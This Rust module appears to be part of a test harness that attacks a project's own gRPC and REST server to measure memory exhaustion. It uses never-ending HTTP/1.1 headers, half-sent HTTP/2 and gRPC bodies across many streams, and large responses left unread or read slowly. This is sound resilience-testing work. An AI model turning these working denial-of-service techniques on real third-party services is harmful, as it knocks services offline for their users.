//! Attacks on memory: what a server holds for requests that never end, and for answers that nobody reads.

use std::net::SocketAddr;
use std::time::Duration;

use futures_util::future::join_all;
use prost::Message as _;
use slipdrive::api::grpc::pb;
use tokio::time::Instant;

use super::Target;
use super::attacker::{
    DATA, END_STREAM, FIRST_WINDOW_BYTES, Frame, HEADERS, Head, MAX_FRAME_BYTES, Peer, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, message, streams,
};
use super::found::Found;

/// Streams that one connection may have open.
const STREAMS: u32 = 128;
/// Answers that an attacker of whole answers waits for at once: fewer than the queue takes.
const AT_ONCE: usize = 16;
/// Largest answers: one node per step.
const STEPS: u32 = 10_000;
const INTERVALS: usize = 10;
/// A byte below the largest body that the server takes, so that it never ends and is never refused.
const HALF_SENT_BYTES: usize = 256 * 1024 - 1;
/// Largest message that common servers of gRPC take.
const LARGE_MESSAGE_BYTES: usize = 4_000_000;
/// Whether it is compressed, and its length.
const MESSAGE_HEAD_BYTES: usize = 5;
/// Connections that send half of what they announce.
const CROWD: usize = 50;
/// A server that opens no window for so long has taken what it takes.
const NO_MORE_ROOM: Duration = Duration::from_secs(2);
const SLOW_READ: (u32, Duration) = (64 * 1024, Duration::from_secs(20));

/// Calls of the health service with a message that never ends.
pub async fn stalled(on: Target, method: &str) -> Found {
    let path = format!("/grpc.health.v1.Health/{method}");
    half_sent(on.grpc, &Head::of(&path), &half_a_message(LARGE_MESSAGE_BYTES), 1, on.end).await
}

/// Heads of HTTP/1.1 that never end.
pub async fn half_sent_heads(on: Target) -> Found {
    let head = format!("GET /livez HTTP/1.1\r\nhost: localhost\r\nx-long: {}", "x".repeat(400_000));
    let attack = async || {
        let peer = Peer::plain(on.rest).await.ok()?;
        peer.write(head.as_bytes()).await;
        Some(peer)
    };
    let peers = join_all((0..500).map(|_| attack())).await;
    stay(peers.into_iter().flatten().collect(), on.end).await
}

pub async fn watches(on: Target) -> Found {
    let head = Head::of("/grpc.health.v1.Health/Watch");
    many(on.grpc, FIRST_WINDOW_BYTES, &head, &message(&[]), on.end).await
}

pub async fn unread_metrics(on: Target) -> Found {
    many(on.rest, 0, &Head::of("/metrics"), &[], on.end).await
}

pub async fn unread_refusals(on: Target) -> Found {
    many(on.rest, 0, &Head::of("/solve"), b"{}", on.end).await
}

/// A hundred connections with as many small requests as they may have open.
async fn many(address: SocketAddr, window_bytes: u32, head: &Head<'_>, body: &[u8], end: Instant) -> Found {
    let attack = async || {
        let peer = Peer::open(address, window_bytes).await.ok()?;
        for stream in streams(STREAMS) {
            peer.request(stream, head, body).await;
        }
        Some(peer)
    };
    let peers = join_all((0..100).map(|_| attack())).await;
    stay(peers.into_iter().flatten().collect(), end).await
}

pub async fn unread_rest(on: Target, connections: usize) -> Found {
    let (head, body) = simulate_rest();
    let filled = join_all((0..connections).map(|_| fill(on.rest, &head, &body, on.end))).await;
    let answers = filled.iter().flatten().map(|(_, answers)| answers).sum();
    let peers = filled.into_iter().flatten().map(|(peer, _)| peer).collect();
    with_answers(stay(peers, on.end).await, answers)
}

pub async fn unread_grpc(on: Target) -> Found {
    let (left_n_m, right_n_m) = torques();
    let schedule = pb::TorqueSchedule { interval_s: Some(0.2), left_n_m, right_n_m };
    let request = pb::SimulateRequest {
        torque_schedule: Some(schedule),
        grid: Some(pb::SimulateGrid { steps: Some(STEPS) }),
        ..pb::SimulateRequest::default()
    };
    let head = Head::with_key("/slipdrive.v1.ManeuverService/Simulate");
    let Some((peer, answers)) = fill(on.grpc, &head, &message(&request.encode_to_vec()), on.end).await else {
        return Found::new("not connected");
    };
    with_answers(stay(vec![peer], on.end).await, answers)
}

pub async fn slowly_read_rest(on: Target) -> Found {
    let (head, body) = simulate_rest();
    let Some((mut peer, answers)) = fill(on.rest, &head, &body, on.end).await else {
        return Found::new("not connected");
    };
    let (bytes, interval) = SLOW_READ;
    while peer.is_open() && Instant::now() < on.end {
        for stream in streams(STREAMS) {
            peer.give_room(stream, bytes).await;
        }
        peer.stay(on.end.min(Instant::now() + interval)).await;
    }
    with_answers(stay(vec![peer], on.end).await, answers)
}

fn torques() -> (Vec<f64>, Vec<f64>) {
    let torque = |index: usize| 0.3 + 0.01 * index as f64;
    ((0..INTERVALS).map(torque).collect(), (0..INTERVALS).rev().map(torque).collect())
}

fn simulate_rest() -> (Head<'static>, Vec<u8>) {
    let (left, right) = torques();
    let schedule = serde_json::json!({"interval_s": 0.2, "left_n_m": left, "right_n_m": right});
    let body = serde_json::json!({"torque_schedule": schedule, "grid": {"steps": STEPS}});
    (Head::with_key("/simulate"), body.to_string().into_bytes())
}

fn with_answers(found: Found, answers: usize) -> Found {
    found.with_text(format!("{answers} large answers"))
}

/// A connection with as many whole answers as it may have open, none of them read, and how many are large. Refusals of a
/// full queue would be small, so the queue is left room.
async fn fill(address: SocketAddr, head: &Head<'_>, body: &[u8], end: Instant) -> Option<(Peer, usize)> {
    let mut peer = Peer::open(address, 0).await.ok()?;
    let (mut asked, mut answered, mut large) = (streams(STREAMS), 0, 0);
    let mut count_asked = 0;
    loop {
        while count_asked < answered + AT_ONCE
            && let Some(stream) = asked.next()
        {
            peer.request(stream, head, body).await;
            count_asked += 1;
        }
        if answered == count_asked {
            return Some((peer, large));
        }
        let Some(frame) = peer.next_before(end).await else { return Some((peer, large)) };
        if frame.kind == HEADERS {
            answered += 1;
            large += usize::from(frame.is_ok());
        }
    }
}

pub async fn half_sent_rest(on: Target) -> Found {
    half_sent(on.rest, &Head::with_key("/solve"), &vec![b' '; HALF_SENT_BYTES], CROWD, on.end).await
}

pub async fn half_sent_grpc(on: Target) -> Found {
    let head = Head::with_key("/slipdrive.v1.ManeuverService/Solve");
    half_sent(on.grpc, &head, &half_a_message(HALF_SENT_BYTES), CROWD, on.end).await
}

/// A message of gRPC that announces one byte more than comes.
fn half_a_message(length: usize) -> Vec<u8> {
    let announced = u32::try_from(length - MESSAGE_HEAD_BYTES + 1).unwrap();
    let mut bytes = vec![0; length];
    bytes[1..MESSAGE_HEAD_BYTES].copy_from_slice(&announced.to_be_bytes());
    bytes
}

async fn half_sent(address: SocketAddr, head: &Head<'_>, body: &[u8], connections: usize, end: Instant) -> Found {
    let attack = async || {
        let mut peer = Peer::open(address, FIRST_WINDOW_BYTES).await.ok()?;
        let sent = half_send(&mut peer, head, body).await;
        Some((peer, sent))
    };
    let attacked = join_all((0..connections).map(|_| attack())).await;
    let sent: usize = attacked.iter().flatten().map(|(_, sent)| sent).sum();
    let peers = attacked.into_iter().flatten().map(|(peer, _)| peer).collect();
    stay(peers, end).await.with_text(format!("{} MiB sent", sent >> 20))
}

/// Sends as much of as many bodies as the server's windows allow; how much it took, bytes.
async fn half_send(peer: &mut Peer, head: &Head<'_>, body: &[u8]) -> usize {
    for stream in streams(STREAMS) {
        peer.head(stream, head, 0).await;
    }
    let mut room = Room { connection: FIRST_WINDOW_BYTES.into(), streams: [FIRST_WINDOW_BYTES.into(); 128] };
    let mut sent = [0; STREAMS as usize];
    loop {
        for (index, stream) in streams(STREAMS).enumerate() {
            let room = &mut room;
            let fits = room.connection.min(room.streams[index]).max(0);
            let rest = &body[sent[index]..];
            let count = rest.len().min(MAX_FRAME_BYTES).min(usize::try_from(fits).unwrap());
            if count > 0 {
                peer.send(DATA, 0, stream, &rest[..count]).await;
                sent[index] += count;
                room.take(index, count);
            }
        }
        let Some(frame) = peer.next_before(Instant::now() + NO_MORE_ROOM).await else {
            return sent.iter().sum();
        };
        room.hear(&frame);
    }
}

/// What the server has room for, bytes.
struct Room {
    connection: i64,
    streams: [i64; STREAMS as usize],
}

impl Room {
    fn take(&mut self, index: usize, count: usize) {
        let count = i64::try_from(count).unwrap();
        self.connection -= count;
        self.streams[index] -= count;
    }

    fn hear(&mut self, frame: &Frame) {
        let index = (frame.stream as usize).wrapping_sub(1) / 2;
        match frame.kind {
            WINDOW_UPDATE if frame.stream == 0 => self.connection += i64::from(frame.number_at(0)),
            WINDOW_UPDATE => self.streams[index] += i64::from(frame.number_at(0)),
            SETTINGS => {
                // An identifier of two bytes and a value of four each.
                for setting in (0..frame.payload.len()).step_by(6) {
                    if frame.payload[setting..].starts_with(&[0, 4]) {
                        let change = i64::from(frame.number_at(setting + 2)) - i64::from(FIRST_WINDOW_BYTES);
                        self.streams = self.streams.map(|window| window + change);
                    }
                }
            }
            // The stream is over.
            RST_STREAM => self.streams[index] = i64::MIN / 2,
            HEADERS if frame.flags & END_STREAM != 0 => self.streams[index] = i64::MIN / 2,
            _ => {}
        }
    }
}

/// Holds the connections until the server has closed them all, or until `end`.
async fn stay(mut peers: Vec<Peer>, end: Instant) -> Found {
    let mut found = Found::default();
    for peer in &mut peers {
        peer.stay(end).await;
    }
    for peer in &peers {
        found.add(peer.life());
    }
    found
}
